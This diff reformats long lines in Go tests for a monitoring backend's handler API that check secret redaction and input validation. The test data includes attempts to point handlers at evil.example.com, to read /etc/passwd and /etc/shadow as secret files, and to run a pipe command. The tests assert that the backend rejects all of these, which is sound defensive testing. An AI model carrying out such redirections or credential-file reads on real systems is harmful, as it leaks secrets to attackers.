@@ -52,10 +52,12 @@ func TestHandlerSecrets(t *testing.T) {
 	s.grant("viewers", "default", resource.Rule{Verbs: []string{"get", "list"}, Resources: []string{"handlers"}})
 	viewer := []string{"Authorization", "Bearer " + s.user("viewer", "viewers")}
 	for name := range secretHandlers {
-		if body := s.do("GET", handlersPath+"/"+name, "", viewer...).is(http.StatusOK).body; strings.Contains(body, "s3cret") || !strings.Contains(body, resource.Redacted) {
+		if body := s.do("GET", handlersPath+"/"+name, "", viewer...).is(http.StatusOK).body; strings.Contains(body,
+			"s3cret") || !strings.Contains(body, resource.Redacted) {
 			t.Errorf("a viewer sees %s", body)
 		}
-		if body := s.do("GET", handlersPath+"/"+name, "").is(http.StatusOK).body; !strings.Contains(body, "s3cret") || strings.Contains(body, resource.Redacted) {
+		if body := s.do("GET", handlersPath+"/"+name, "").is(http.StatusOK).body; !strings.Contains(body, "s3cret") ||
+			strings.Contains(body, resource.Redacted) {
 			t.Errorf("the administrator sees %s", body)
 		}
 	}
@@ -70,7 +72,8 @@ func TestHandlerSecrets(t *testing.T) {
 	if got := s.do("GET", handlersPath+query, "").is(http.StatusOK).names(); got != "default/bot default/chat" {
 		t.Errorf("the administrator's selector finds %s", got)
 	}
-	bulk := s.do("POST", "/api/lapwing/v1/namespaces/default/bulk", `{"resource":"handlers","action":"delete","dry_run":true,"field_selector":"handler.slack.token == \"s3cret\""}`, viewer...)
+	bulk := s.do("POST", "/api/lapwing/v1/namespaces/default/bulk",
+		`{"resource":"handlers","action":"delete","dry_run":true,"field_selector":"handler.slack.token == \"s3cret\""}`, viewer...)
 	if body := bulk.is(http.StatusOK).body; !strings.Contains(body, `"matched":0`) {
 		t.Errorf("a bulk action finds %s", body)
 	}
@@ -122,7 +125,9 @@ func TestHandlerSecretsStay(t *testing.T) {
 		"am":    `{"alertmanager":{"urls":["https://evil.example.com"]}}`,
 		"flux":  `{"influx":{"url":"https://evil.example.com"}}`,
 	} {
-		if body := s.do("PATCH", handlersPath+"/"+name, change, merge...).is(http.StatusBadRequest).body; !strings.Contains(body, "would be sent to another server than before") {
+		if body := s.do("PATCH", handlersPath+"/"+name, change,
+			merge...).is(http.StatusBadRequest).body; !strings.Contains(body,
+			"would be sent to another server than before") {
 			t.Errorf("%s: %s", name, body)
 		}
 		if text := s.do("GET", handlersPath+"/"+name, "").body; strings.Contains(text, "evil") {
@@ -137,7 +142,8 @@ func TestHandlerSecretsStay(t *testing.T) {
 	} {
 		s.do("PATCH", handlersPath+"/"+name, change, merge...).is(http.StatusBadRequest)
 	}
-	s.do("PATCH", handlersPath+"/pager", `{"pagerduty":{"url":"https://new.example.com/","routing_key":"again"}}`, merge...).is(http.StatusOK)
+	s.do("PATCH", handlersPath+"/pager", `{"pagerduty":{"url":"https://new.example.com/","routing_key":"again"}}`,
+		merge...).is(http.StatusOK)
 	if p := s.handler("pager").PagerDuty; p.URL != "https://new.example.com/" || p.RoutingKey != "again" {
 		t.Errorf("moved to %+v", p)
 	}
@@ -184,13 +190,17 @@ func TestForbiddenHandlers(t *testing.T) {
 	}
 	s := newServer(t, func(o *Options) { o.HandlerAllowed, o.MutatorAllowed = sender.Allowed, sender.MutatorAllowed })
 	put := func(kind, name, rest string) *answer {
-		return s.do("PUT", "/api/core/v2/namespaces/default/"+kind+"/"+name, `{"metadata":{"name":"`+name+`","namespace":"default"},`+rest+`}`)
+		return s.do("PUT", "/api/core/v2/namespaces/default/"+kind+"/"+name,
+			`{"metadata":{"name":"`+name+`","namespace":"default"},`+rest+`}`)
 	}
 	const passwd = `"type":"webhook","webhook":{"url":"https://evil.example.com","username":"u","password_file":"/etc/passwd"}`
-	put("handlers", "leak", passwd).refuses(http.StatusBadRequest, codeInvalid, "resource is invalid: /etc/passwd is not in a directory of --handler-secret-dirs")
+	put("handlers", "leak", passwd).refuses(http.StatusBadRequest, codeInvalid,
+		"resource is invalid: /etc/passwd is not in a directory of --handler-secret-dirs")
 	put("handlers", "run", `"type":"pipe","command":"id"`).
-		refuses(http.StatusBadRequest, codeInvalid, "resource is invalid: handlers of type pipe are not allowed on this backend (--allowed-handler-types)")
+		refuses(http.StatusBadRequest, codeInvalid,
+			"resource is invalid: handlers of type pipe are not allowed on this backend (--allowed-handler-types)")
 	put("mutators", "run", `"command":"id"`).is(http.StatusBadRequest)
 	put("handlers", "good", `"type":"webhook","webhook":{"url":"https://x.example.com","token_file":"/etc/lapwing/secrets/t"}`).is(http.StatusCreated)
-	s.do("PATCH", handlersPath+"/good", `{"webhook":{"token_file":"/etc/shadow"}}`, "Content-Type", mergePatchType).is(http.StatusBadRequest)
+	s.do("PATCH", handlersPath+"/good", `{"webhook":{"token_file":"/etc/shadow"}}`, "Content-Type",
+		mergePatchType).is(http.StatusBadRequest)
 }
